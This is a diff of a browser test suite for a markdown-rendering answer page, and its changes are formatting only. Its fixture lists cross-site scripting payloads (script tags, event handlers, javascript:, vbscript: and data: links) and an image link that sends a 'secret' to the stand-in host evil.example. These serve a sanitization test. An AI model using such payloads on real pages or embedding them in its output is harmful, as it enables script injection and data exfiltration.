@@ -30,7 +30,8 @@ SECRET = "a-secret-of-the-tests-0123456789-0123456789"
 HOSTILE = """<script>window.pwned = 1</script>
 <img src=x onerror="window.pwned = 2"> <svg onload="window.pwned = 3">
 
-[run](javascript:window.pwned=4) [run]( java\tscript:alert(1)) [run](data:text/html,<script>window.pwned=5</script>)
+[run](javascript:window.pwned=4) [run]( java\tscript:alert(1))
+[run](data:text/html,<script>window.pwned=5</script>)
 [run](vbscript:x) [ref] <javascript:window.pwned=6> [fine](https://example.com/?a=1&amp;b=2)
 
 ![leak](https://evil.example/?secret=1)
@@ -162,7 +163,9 @@ async def test_hostile_markdown(browser: Browser, faulty: Service) -> None:
         await has_state(page, "done")
         answer = turn(page).locator(".prose")
         assert "<script>window.pwned = 1</script>" in await answer.inner_text()
-        assert await answer.locator("img, script, iframe, svg, style, form, [onclick], [onerror]").count() == 0
+        assert (
+            await answer.locator("img, script, iframe, svg, style, form, [onclick], [onerror]").count() == 0
+        )
         links = await answer.locator("a").evaluate_all("links => links.map(link => link.href)")
         assert links == ["https://example.com/?a=1&b=2", "https://evil.example/?secret=1"]
         assert await page.evaluate("window.pwned") is None
@@ -184,7 +187,7 @@ async def test_an_answer_that_fails(browser: Browser, faulty: Service) -> None:
 
 
 async def test_a_key_is_asked_for(browser: Browser, tmp_path: Path) -> None:
-    """Where the service wants a key the page asks for one, again if it is wrong, and keeps it in the tab only."""
+    """Where the service wants a key the page asks for one, again if it is wrong; only the tab keeps it."""
     settings = {"API_KEYS": KEY, "STREAM_TOKEN_SECRETS": SECRET, "HEALTH_ANONYMOUS": "false"}
     with running_service(tmp_path / "data", **settings) as service:
         async with browsing(browser) as tabs:
